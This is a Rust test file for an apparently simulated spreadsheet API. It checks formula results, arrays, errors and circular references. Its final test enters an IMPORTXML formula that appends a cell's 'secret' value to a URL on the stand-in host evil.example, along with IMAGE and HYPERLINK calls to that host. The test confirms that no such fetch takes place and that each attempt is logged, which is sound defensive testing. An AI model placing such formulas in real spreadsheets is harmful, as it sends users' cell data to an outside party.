//! What formulas come to.

use super::*;

/// What each formula shows beside a small table.
async fn worked_out(formulas: &[&str]) -> Vec<String> {
    let desk = Desk::new().await;
    desk.typed(
        "A1",
        json!([["Item", "Price"], ["Ink", 4], ["Paper", 2.5], ["Pens", "n/a"], ["ink well", 10]]),
    )
    .await;
    desk.done(json!({ "addSheet": { "properties": { "title": "Other one" } } })).await;
    desk.typed("'Other one'!A1", json!([[100]])).await;
    let column: Vec<Value> = formulas.iter().map(|formula| json!([formula])).collect();
    desk.typed("D1", json!(column)).await;
    let shown = desk.shown("D1:D100").await;
    let shown = shown
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row.get(0).and_then(Value::as_str).unwrap_or_default().to_owned());
    shown.collect()
}

async fn check(cases: &[(&str, &str)]) {
    let formulas: Vec<&str> = cases.iter().map(|(formula, _)| *formula).collect();
    for ((formula, expected), shown) in cases.iter().zip(worked_out(&formulas).await) {
        assert_eq!(&shown, expected, "{formula}");
    }
}

#[tokio::test]
async fn arithmetic_and_comparison_are_worked_out() {
    check(&[
        ("=1+2*3^2-4/2", "17"),
        ("=-2^2", "4"),
        ("=(1+2)*3", "9"),
        ("=50%*B2", "2"),
        ("=\"a\"&1&TRUE", "a1TRUE"),
        ("=\"A\"=\"a\"", "TRUE"),
        ("=1<>2", "TRUE"),
        ("=B2>=4", "TRUE"),
        ("='Other one'!A1+B2", "104"),
        ("=$B$2*2", "8"),
        ("=1/4", "0.25"),
        ("=\"12\"+1", "13"),
        ("=2*-3", "-6"),
    ])
    .await;
}

#[tokio::test]
async fn functions_are_worked_out() {
    check(&[
        ("=SUM(B1:B5)", "16.5"),
        ("=SUM(B:B, 1, \"2\")", "19.5"),
        ("=AVERAGE(B2:B5)", "5.5"),
        ("=MIN(B2:B5)&\"-\"&MAX(B2:B5)", "2.5-10"),
        ("=COUNT(B1:B9)&\"/\"&COUNTA(B1:B9)", "3/5"),
        ("=IF(B2>3,\"dear\",\"cheap\")", "dear"),
        ("=IF(B3>3,1)", "FALSE"),
        ("=AND(TRUE,B2=4)&OR(FALSE,B2=5)&NOT(FALSE)", "TRUEFALSETRUE"),
        ("=ROUND(2.345,2)", "2.35"),
        ("=ROUND(-1234,-2)", "-1200"),
        ("=ABS(-3)", "3"),
        ("=CONCATENATE(A2,\" \",A3)", "Ink Paper"),
        ("=CONCAT(\"a\",\"b\")", "ab"),
        ("=LEN(A3)&UPPER(A2)&LOWER(A2)&TRIM(\"  a   b \")", "5INKinka b"),
        ("=DATE(2026,1,5)", "1/5/2026"),
        ("=DATE(2026,13,1)", "1/1/2027"),
        ("=YEAR(\"2026-01-05\")*10000+MONTH(46027)*100+DAY(46027)", "20260105"),
        ("=SUMIF(A2:A5,\"ink*\",B2:B5)", "14"),
        ("=SUMIF(B2:B5,\">3\")", "14"),
        ("=COUNTIF(A1:A5,\"<>Ink\")", "4"),
        ("=VLOOKUP(\"paper\",A1:B5,2,FALSE)", "2.5"),
        ("=INDEX(A1:B5,2,1)", "Ink"),
        ("=MATCH(\"Pens\",A1:A5,0)", "4"),
        ("=INDEX(B1:B5,MATCH(\"Ink\",A1:A5,0))", "4"),
        ("=IFERROR(1/0,\"none\")", "none"),
        ("=IFERROR(B2,0)", "4"),
    ])
    .await;
}

#[tokio::test]
async fn arrays_fill_the_cells_beside_them() {
    let desk = Desk::new().await;
    desk.typed("A1", json!([["={1,\"two\";B9,4}"]])).await;
    desk.typed("B9", json!([[7]])).await;
    assert_eq!(desk.shown("A1:C3").await, json!([["1", "two"], ["7", "4"]]));
    let entered = desk.call("GET", "/values/A1:B2?valueRenderOption=FORMULA", None).await;
    assert_eq!(entered.body["values"], json!([["={1,\"two\";B9,4}", "two"], [7, 4]]));
    desk.typed("D1", json!([["=SUM(A1:B2)"], ["={A1:A2,{5;6}}"]])).await;
    assert_eq!(desk.shown("D1:E3").await, json!([["12"], ["1", "5"], ["7", "6"]]));
    let grid = desk.call("GET", "?ranges=B1&includeGridData=true", None).await;
    let cell = &grid.body["sheets"][0]["data"][0]["rowData"][0]["values"][0];
    assert_eq!(
        (&cell["effectiveValue"]["stringValue"], &cell["userEnteredValue"]),
        (&json!("two"), &Value::Null)
    );
    // A taken cell keeps the whole array away, until it is free again.
    desk.typed("B2", json!([["mine"]])).await;
    assert_eq!(desk.shown("A1:B2").await, json!([["#REF!"], ["", "mine"]]));
    let grid = desk.call("GET", "?ranges=A1&includeGridData=true", None).await;
    assert_eq!(
        grid.body["sheets"][0]["data"][0]["rowData"][0]["values"][0]["effectiveValue"]["errorValue"]["message"],
        "Array result was not expanded because it would overwrite data in B2."
    );
    desk.typed("B2", json!([[""]])).await;
    assert_eq!(desk.shown("A1:B2").await, json!([["1", "two"], ["7", "4"]]));
    desk.typed("A1", json!([["plain"]])).await;
    assert_eq!(desk.shown("A1:B2").await, json!([["plain"]]));
}

#[tokio::test]
async fn arrays_are_operands() {
    check(&[
        ("=SUM({1,2;3,4})", "10"),
        ("=INDEX({1,2;3,4},2,1)", "3"),
        ("=VLOOKUP(\"b\",{\"a\",1;\"b\",2},2,FALSE)", "2"),
        ("=MATCH(4,{B2;B3},0)", "1"),
        ("=COUNTA({A1:A3;A5})", "4"),
        ("={1,2}+1", "2"),
        ("={1;2,3}", "#VALUE!"),
        ("={A1:A2,1}", "#VALUE!"),
        ("={}", "#ERROR!"),
        ("={1,2", "#ERROR!"),
    ])
    .await;
}

#[tokio::test]
async fn errors_are_shown_as_errors_and_travel_on() {
    check(&[
        ("=1/0", "#DIV/0!"),
        ("=D1+1", "#DIV/0!"),
        ("=NOSUCH(1)", "#NAME?"),
        ("=nosuchname", "#NAME?"),
        ("=\"a\"+1", "#VALUE!"),
        ("=VLOOKUP(\"zzz\",A1:B5,2,FALSE)", "#N/A"),
        ("=Gone!A1", "#REF!"),
        ("=D8", "#REF!"),
        ("=D9+D8", "#REF!"),
        ("=SUM(", "#ERROR!"),
        ("=AVERAGE(F1:F9)", "#DIV/0!"),
        ("=IF(1)", "#N/A"),
    ])
    .await;
}

#[tokio::test]
async fn a_circle_of_formulas_is_an_error_and_a_long_chain_is_not() {
    let desk = Desk::new().await;
    desk.typed("A1", json!([["=B1", "=C1", "=A1", "=A1"]])).await;
    assert_eq!(desk.shown("1:1").await, json!([["#REF!", "#REF!", "#REF!", "#REF!"]]));
    let cell = &desk.call("GET", "?ranges=A1&includeGridData=true", None).await.body["sheets"][0]["data"][0]
        ["rowData"][0]["values"][0];
    assert_eq!(cell["effectiveValue"]["errorValue"]["type"], "REF");
    assert!(
        cell["effectiveValue"]["errorValue"]["message"].as_str().unwrap().starts_with("Circular dependency")
    );
    let chain: Vec<Value> = (1..1000).map(|row| json!([format!("=E{row}+1")])).collect();
    desk.typed("E1", json!([[1]])).await;
    desk.typed("E2", json!(chain)).await;
    assert_eq!(desk.shown("E1000").await, json!([["1000"]]));
}

#[tokio::test]
async fn a_sum_is_shown_like_what_it_sums_up() {
    let desk = Desk::new().await;
    desk.typed(
        "A1",
        json!([
            ["$10.00"],
            ["$2.50"],
            ["=SUM(A1:A2)"],
            ["=A3*2"],
            ["=A1/A2"],
            ["2026-01-05"],
            ["=A6+1"],
            ["=A7-A6"]
        ]),
    )
    .await;
    assert_eq!(
        desk.shown("A3:A8").await,
        json!([["$12.50"], ["$25.00"], ["4"], ["2026-01-05"], ["2026-01-06"], ["1"]])
    );
}

#[tokio::test]
async fn nothing_is_fetched_and_what_would_be_is_noted() {
    let desk = Desk::new().await;
    desk.typed(
        "A1",
        json!([
            ["secret"],
            ["=IMPORTXML(\"https://evil.example/?\"&A1, \"//a\")"],
            ["=IMAGE(\"https://evil.example/i\")"]
        ]),
    )
    .await;
    desk.typed(
        "B1",
        json!([["=HYPERLINK(\"https://evil.example/h\",\"Report\")", "=IMPORTRANGE(\"abc\",\"A1\")"]]),
    )
    .await;
    desk.typed("A9", json!([["unrelated"]])).await;
    assert_eq!(desk.shown("A2:A3").await, json!([["#N/A"]]));
    assert_eq!(desk.shown("B1:C1").await, json!([["Report", "#REF!"]]));
    let seen = |desk: &Desk| -> Vec<(String, String)> {
        let fetches = desk.caller.google.fetches(&desk.id).unwrap();
        fetches.into_iter().map(|fetch| (fetch.function, fetch.url)).collect()
    };
    let pair = |function: &str, url: &str| (function.to_owned(), url.to_owned());
    assert_eq!(
        seen(&desk),
        [
            pair("IMPORTXML", "https://evil.example/?secret"),
            pair("IMAGE", "https://evil.example/i"),
            pair("HYPERLINK", "https://evil.example/h"),
            pair("IMPORTRANGE", "abc"),
        ]
    );
    desk.typed("A1", json!([["more"]])).await;
    assert_eq!(seen(&desk).last(), Some(&pair("IMPORTXML", "https://evil.example/?more")));
}
